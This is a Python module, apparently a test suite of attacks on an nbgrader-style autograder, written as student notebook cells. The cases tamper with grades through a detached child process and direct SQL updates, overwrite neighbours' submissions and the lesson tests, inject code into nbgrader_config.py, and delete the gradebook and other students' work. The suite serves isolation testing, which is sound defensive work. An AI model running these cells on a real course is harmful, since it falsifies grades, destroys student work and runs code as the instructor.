"""Attacks that tamper with what is not theirs: grades, submissions, the course."""

from attacks.kit import Attempt, collection

attacks, attack = collection("tamper")

# Waits until that student is graded, then changes the grade; bounded to 15 seconds.
LATER = '''
import sqlite3, sys, time  # {marker}
who, change = {who!r}, {change!r}
mine = """where notebook_id in (select n.id from submitted_notebook n join submitted_assignment a
          on n.assignment_id = a.id where a.student_id = ?)"""
for _ in range(150):
    time.sleep(0.1)
    try:
        base = sqlite3.connect({course!r} + "/gradebook.db", timeout=1)
        scores = base.execute("select auto_score from grade " + mine, [who]).fetchall()
        if scores and all(score is not None for score, in scores):
            time.sleep(0.3)
            base.execute(f"update grade set {{change}} " + mine, [who])
            base.commit()
            break
        base.close()
    except sqlite3.Error:
        pass
'''


def _later(it: Attempt, who: str, change: str) -> None:
    """A child that outlives the kernel and changes that student's grade once there is one."""
    code = LATER.format(marker=it.marker, who=who, change=change, course=str(it.course))
    it.cell(f"import subprocess; subprocess.Popen([sys.executable, '-c', {code!r}], start_new_session=True)")


@attack("a detached child that waits and writes extra_credit")
def extra_credit(it: Attempt) -> None:
    _later(it, it.student, "extra_credit = 2")


@attack("a detached child that waits and zeroes a neighbour's manual_score")
def neighbours_grade(it: Attempt) -> None:
    _later(it, "z-after", "manual_score = 0, needs_manual_grade = 0")


@attack("its own row of the gradebook, and those of a neighbour who is graded already")
def gradebook(it: Attempt) -> None:
    it.cell("""
import sqlite3
base = sqlite3.connect(f'{COURSE}/gradebook.db', timeout=2)
base.execute("update grade set extra_credit = 8 where rowid = (select max(rowid) from grade)")
base.execute("update grade set manual_score = 0 where auto_score is not null")
base.commit()""")


@attack("a gradebook on a PostgreSQL server, through its socket: every grade 0, its own 8")
def gradebook_on_a_server(it: Attempt) -> None:
    it.cell("""
import glob, psycopg
for host in glob.glob('/tmp/postgres-*'):
    with psycopg.connect(host=host, user='course', dbname='postgres') as server:
        names = server.execute("select datname from pg_database where datname like 'attacked%'").fetchall()
    for name, in names:
        with psycopg.connect(host=host, user='course', dbname=name) as base:
            base.execute("update grade set manual_score = 0 where auto_score is not null")
            base.execute("update grade set extra_credit = 8 where id = (select max(id) from grade)")""")


@attack("a neighbour's submission overwritten before it is graded")
def next_submission(it: Attempt) -> None:
    it.cell("""
path = f'{COURSE}/submitted/z-after/{LESSON}/{LESSON}.ipynb'
text = open(path).read().replace('return x + x', f'return 0  # {MARK}')
open(path, 'w').write(text)""")


@attack("a neighbour's graded notebook overwritten")
def autograded(it: Attempt) -> None:
    it.cell("""
path = f'{COURSE}/autograded/a-before/{LESSON}/{LESSON}.ipynb'
os.chmod(path, 0o644)
open(path, 'a').write(' ' + MARK)""")


@attack("feedback written in a neighbour's name")
def feedback(it: Attempt) -> None:
    it.cell("""
os.makedirs(f'{COURSE}/feedback/z-after/{LESSON}', exist_ok=True)
open(f'{COURSE}/feedback/z-after/{LESSON}/read-me.html', 'w').write(MARK)""")


@attack("the lesson's source changed: its tests emptied")
def source(it: Attempt) -> None:
    it.cell("""
path = f'{COURSE}/source/{LESSON}/{LESSON}.ipynb'
open(path, 'w').write(open(path).read().replace('assert', f'0 and # {MARK}'))""")


@attack("the release changed, for those who fetch it next")
def release(it: Attempt) -> None:
    it.cell("open(f'{COURSE}/release/{LESSON}/helper.py', 'w').write('# ' + MARK)")


@attack("the course's nbgrader_config.py: code that runs in the instructor's next command")
def settings(it: Attempt) -> None:
    it.cell("""
with open(f'{COURSE}/nbgrader_config.py', 'a') as file:
    file.write(f'\\nopen({DROP!r} + "/{MARK}-ran", "w").close()  # {MARK}\\n')""")


@attack("tests in the gradebook emptied, for everybody who is graded after")
def source_cells(it: Attempt) -> None:
    it.cell("""
import sqlite3
base = sqlite3.connect(f'{COURSE}/gradebook.db', timeout=2)
base.execute("update source_cell set source = 'raise Exception' where name like '%hidden'")
base.commit()""")


@attack("the gradebook deleted")
def no_gradebook(it: Attempt) -> None:
    it.cell("os.remove(f'{COURSE}/gradebook.db')")


@attack("everybody else's submissions deleted")
def no_submissions(it: Attempt) -> None:
    it.cell("import shutil; shutil.rmtree(f'{COURSE}/submitted/z-after')")
